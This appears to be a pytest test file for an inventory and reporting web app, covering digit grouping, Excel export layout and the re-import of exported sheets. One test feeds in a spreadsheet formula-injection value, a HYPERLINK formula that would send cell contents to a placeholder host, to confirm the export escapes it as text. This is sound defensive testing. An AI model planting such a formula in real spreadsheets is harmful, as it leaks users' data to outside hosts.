"""Numbers as users read them and Excel exports: pages and prints group digits (11,636.70); every
Excel export has a title block (report, company, period, filters), a frozen header, number
formats and widths that fit, and text that never becomes a formula."""

import io
import re

import pytest
from openpyxl import load_workbook

from openjxc.catalog.imports import import_items
from openjxc.core.numbers import grouped
from openjxc.core.services import set_setting
from openjxc.core.sheets import display_width
from openjxc.documents.models import Document
from openjxc.reports.excel import MONEY, PRICE, QTY, TITLE_ROWS

from .factories import doc

pytestmark = pytest.mark.django_db

FROM_TO = "from=2026-03-01&to=2026-03-31"


@pytest.fixture
def big(user):
    """Amounts past a thousand: 1,000 × 11.6367 = 11,636.70 bought, 1,200 × 15.00 sold."""
    set_setting("company_name", "演示商贸有限公司")
    receipt = doc(
        user, "purchase_receipt", "2026-03-01", [("A001", 1000, "11.6367"), ("A002", 4, "2.50")]
    )
    delivery = doc(user, "sales_delivery", "2026-03-03", [("A001", 600, "15.00")])
    return {"receipt": receipt, "delivery": delivery}


def test_grouped_keeps_the_places_and_leaves_words_alone():
    assert grouped("11636.70") == "11,636.70"
    assert grouped("323375.65") == "323,375.65"
    assert grouped("-1234567.5") == "-1,234,567.5"
    assert grouped("1234.000000") == "1,234.000000"
    assert grouped("999.99") == "999.99"
    assert grouped(1200) == "1,200"
    assert grouped("—") == "—" and grouped(None) == "" and grouped("") == ""


def test_pages_and_prints_group_digits(client, user, big):
    # given a receipt of 11,636.70 and a delivery of 9,000.00 (600 × 15.00)
    client.force_login(user)
    receipt = Document.objects.get(number=big["receipt"])
    assert (receipt.amount, receipt.amount_incl_tax) == (
        1164670,
        1316077,
    )  # fen: + 4 × 2.50, + 13 % tax
    # when the pages show them, then the digits are grouped
    detail = client.get(f"/doc/{big['receipt']}/").content.decode()
    assert ">11,636.70<" in detail and ">1,000<" in detail  # the first line's amount and quantity
    assert re.search(r'id="doc-amount">11,646\.70<', detail)
    printed = client.get(f"/doc/{big['receipt']}/print/?format=a4").content.decode()
    assert re.search(r'id="print-total">13,160\.77<', printed)
    assert re.search(r'id="print-qty">1,004<', printed)
    listing = client.get("/documents/purchase_receipt/").content.decode()
    assert re.search(r'id="total-amount">11,646\.70<', listing)  # + 4 × 2.50
    summary = client.get(f"/reports/sales/summary/?{FROM_TO}").content.decode()
    assert ">9,000.00<" in summary and ">600<" in summary
    stock = client.get("/stock/?date=2026-03-31").content.decode()
    assert ">400<" in stock and re.search(r'id="stock-total-value">4,664\.68<', stock)
    assert "11636.70" not in detail + printed + listing


def test_entry_page_groups_live_totals_in_its_script():
    from pathlib import Path

    import openjxc

    js = (Path(openjxc.__file__).parent / "web" / "static" / "web" / "entry.js").read_text()
    assert "function money(x) { return grouped(cents(x).toFixed(2)); }" in js
    assert 'setText("total-qty", grouped(qtyText(tq)));' in js


# (url, report title, header of a numeric column, its format, a part of the title block)
WEB_EXPORTS = [
    (
        "/documents/purchase_receipt/?export=xlsx&from=2026-03-01",
        "采购入库单",
        "金额",
        MONEY,
        "期间: 2026-03-01 至 …",
    ),
    ("/items/?export=1&q=A00", "商品", "安全库存", QTY, "查询: A00"),
    ("/customers/?export=1", "客户", "信用额度", MONEY, None),
    (
        "/stock/?format=xlsx&date=2026-03-31&warehouse=WH1",
        "库存余额",
        "金额",
        MONEY,
        "期间: 截至 2026-03-31",
    ),
    (
        f"/stock/ledger/?item=A001&{FROM_TO}&format=xlsx",
        "库存台账",
        "结存金额",
        MONEY,
        "商品编码: A001",
    ),
    ("/stock/low/?format=xlsx", "库存预警", "结存数量", QTY, None),
    (
        f"/reports/inventory-summary/?{FROM_TO}&by_warehouse=1&format=xlsx",
        "进销存汇总表",
        "结存金额",
        MONEY,
        "按仓库分行: 是",
    ),
    (
        f"/reports/sales/summary/?{FROM_TO}&by=partner&format=xlsx",
        "销售汇总",
        "金额",
        MONEY,
        "汇总方式: 按往来单位",
    ),
    (
        f"/reports/purchase/details/?{FROM_TO}&format=xlsx",
        "采购明细",
        "数量",
        QTY,
        "期间: 2026-03-01 至 2026-03-31",
    ),
    (f"/reports/margin/?{FROM_TO}&format=xlsx", "毛利分析", "毛利", MONEY, None),
    (
        "/reports/receivables/?format=xlsx&kind=customer",
        "应收应付",
        "应收余额",
        MONEY,
        "类别: 客户",
    ),
    (
        "/reports/aging/?format=xlsx&as_of=2026-03-31",
        "应收账龄",
        "0-30天",
        MONEY,
        "期间: 截至 2026-03-31",
    ),
    (
        f"/reports/statements/?kind=customer&partner=C001&{FROM_TO}&format=xlsx",
        "对账单",
        "余额",
        MONEY,
        "往来单位: C001",
    ),
]
API_EXPORTS = [
    (
        f"/reports/inventory-summary?{FROM_TO}&warehouse=WH1&format=xlsx",
        "进销存汇总表",
        "结存金额",
        MONEY,
        "仓库: WH1",
    ),
    (
        f"/reports/stock-ledger?item=A001&{FROM_TO}&format=xlsx",
        "库存台账",
        "结存数量",
        QTY,
        "期间: 2026-03-01 至",
    ),
    (f"/partners/C001/statement?{FROM_TO}&format=xlsx", "对账单", "余额", MONEY, "往来单位: C001"),
    (f"/reports/sales-summary?{FROM_TO}&format=xlsx", "销售汇总", "金额", MONEY, "2026-03-31"),
    (f"/reports/sales-details?{FROM_TO}&format=xlsx", "销售明细", "单价", PRICE, "2026-03-31"),
]


def check_sheet(content: bytes, title: str, header: str, fmt: str, meta_part: str | None) -> None:
    """The layout every export shares (see openjxc.reports.excel)."""
    ws = load_workbook(io.BytesIO(content)).active
    header_row = TITLE_ROWS + 1
    # title block: report name, then company · period · filters
    assert ws["A1"].value == title and ws["A1"].font.bold
    meta = ws["A2"].value
    assert "公司: 演示商贸有限公司" in meta and "导出时间" in meta
    if meta_part:
        assert meta_part in meta, meta
    # the header stays in view while scrolling; it is bold
    assert ws.freeze_panes == f"A{header_row + 1}"
    headers = [c.value for c in ws[header_row]]
    assert all(c.font.bold for c in ws[header_row])
    # every column fits its header and its texts (a CJK character counts double)
    for n, name in enumerate(headers, start=1):
        width = ws.column_dimensions[ws.cell(header_row, n).column_letter].width
        assert width >= display_width(name) + 2, (name, width)
        for (cell,) in ws.iter_rows(min_row=header_row + 1, min_col=n, max_col=n):
            if isinstance(cell.value, str):
                assert width >= min(display_width(cell.value), 58), (name, cell.value, width)
    # the numeric column holds numbers (so that they add up) in its format
    col = headers.index(header) + 1
    cells = [ws.cell(r, col) for r in range(header_row + 1, ws.max_row + 1)]
    assert cells and all(c.number_format == fmt for c in cells), [c.number_format for c in cells]
    numbers = [c for c in cells if c.value is not None]
    assert numbers and all(
        c.data_type == "n" and isinstance(c.value, (int, float)) for c in numbers
    )


@pytest.mark.parametrize(
    ("url", "title", "header", "fmt", "meta"), WEB_EXPORTS, ids=[u[1] for u in WEB_EXPORTS]
)
def test_every_page_export_has_title_frozen_header_formats_and_widths(
    client, user, big, url, title, header, fmt, meta
):
    from openjxc.catalog.services import update_item
    from openjxc.partners.services import update_partner

    update_partner(user, "customer", "C001", {"credit_limit": "1234567.89"})
    update_item(user, "A002", {"safety_stock": "1000"})  # a low-stock row
    client.force_login(user)
    r = client.get(url)
    assert r.status_code == 200, (url, r.status_code)
    check_sheet(r.content, title, header, fmt, meta)


@pytest.mark.parametrize(
    ("path", "title", "header", "fmt", "meta"), API_EXPORTS, ids=[u[1] for u in API_EXPORTS]
)
def test_every_api_export_has_the_same_layout(api, big, path, title, header, fmt, meta):
    r = api.get(path)
    assert r.status_code == 200, (path, r.status_code, r.content[:300])
    check_sheet(r.content, title, header, fmt, meta)


def test_money_cells_show_grouped_and_sum(client, user, big):
    client.force_login(user)
    ws = load_workbook(
        io.BytesIO(client.get("/documents/purchase_receipt/?export=xlsx").content)
    ).active
    headers = [c.value for c in ws[TITLE_ROWS + 1]]
    amount = ws.cell(TITLE_ROWS + 2, headers.index("金额") + 1)
    assert amount.value == 11646.7 and amount.number_format == "#,##0.00"
    total = ws.cell(ws.max_row, headers.index("金额") + 1)
    assert ws.cell(ws.max_row, 1).value == "合计" and total.value == 11646.7


def test_text_columns_stay_text_and_never_become_formulas(client, user, big):
    # given an item whose code and barcode look like numbers and whose name looks like a formula
    from openjxc.catalog.services import create_item

    create_item(
        user,
        {
            "code": "0012",
            "name": "=1+1",
            "unit": "个",
            "barcode": "6901234567892",
            "sale_price": "1234.5",
        },
    )
    client.force_login(user)
    ws = load_workbook(io.BytesIO(client.get("/items/?export=1&q=0012").content)).active
    row = {
        h: c for h, c in zip([c.value for c in ws[TITLE_ROWS + 1]], ws[TITLE_ROWS + 2], strict=True)
    }
    # then codes keep their leading zeros and barcodes all their digits, as text
    assert row["商品编码"].value == "0012" and row["商品编码"].data_type == "s"
    assert row["条码"].value == "6901234567892" and row["条码"].data_type == "s"
    assert row["商品名称"].value == "'=1+1"
    assert row["销售价"].value == 1234.5 and row["销售价"].number_format != "General"
    assert all(c.data_type != "f" for r in ws.iter_rows() for c in r)


def test_an_exported_item_sheet_imports_again(client, user, big):
    # the title block above the header does not stop the import from finding its columns
    client.force_login(user)
    content = client.get("/items/?export=1").content
    ws = load_workbook(io.BytesIO(content)).active
    ws.delete_rows(TITLE_ROWS + 3, ws.max_row)  # keep the first item, as a new one
    ws.cell(TITLE_ROWS + 2, 1).value, ws.cell(TITLE_ROWS + 2, 2).value = "Z001", "新商品"
    # (a barcode names one item: the new one gets its own)
    headers = [c.value for c in ws[TITLE_ROWS + 1]]
    ws.cell(TITLE_ROWS + 2, headers.index("条码") + 1).value = None
    buf = io.BytesIO()
    ws.parent.save(buf)
    result = import_items(user, buf.getvalue(), commit=False)
    assert [(r["row"], r["code"]) for r in result["rows"]][:1] == [(TITLE_ROWS + 2, None)], result[
        "rows"
    ][:1]
    assert result["ok"]


def test_excel_never_turns_text_into_a_formula(db):
    from openjxc.reports.excel import xlsx_response

    name = '=HYPERLINK("http://x/?"&A1,"点击")'
    r = xlsx_response(
        "x.xlsx",
        "x",
        [("item_name", "名称"), ("qty", "数量")],
        [{"item_name": name, "qty": "-3"}, {"item_name": "+1 杯", "qty": "2.5"}],
    )
    ws = load_workbook(io.BytesIO(r.content)).active
    assert [[c.value for c in row] for row in ws.iter_rows(min_row=4)] == [
        ["'" + name, -3],
        ["'+1 杯", 2.5],
    ]
    assert all(c.data_type != "f" for row in ws.iter_rows() for c in row)
